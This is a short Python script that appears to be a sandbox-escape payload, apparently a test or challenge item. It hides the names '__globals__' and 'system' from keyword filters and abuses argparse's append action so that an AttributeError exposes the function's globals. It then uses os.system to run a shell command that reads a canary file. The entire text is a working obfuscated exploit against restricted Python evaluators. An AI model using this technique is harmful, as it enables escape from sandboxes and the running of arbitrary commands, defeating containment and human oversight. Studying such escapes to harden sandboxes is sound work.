import json
import os

T = json.loads('"\\u0073ystem"')
import argparse
def main(): pass
G = [n for n in dir(main) if n[2:6] == "glob"][0]
p = argparse.ArgumentParser()
p.add_argument("--x", dest=G, action="append")
try: p.parse_args(["--x", "1"], namespace=main)
except AttributeError as e: e.obj["os"].system("cat CANARY")
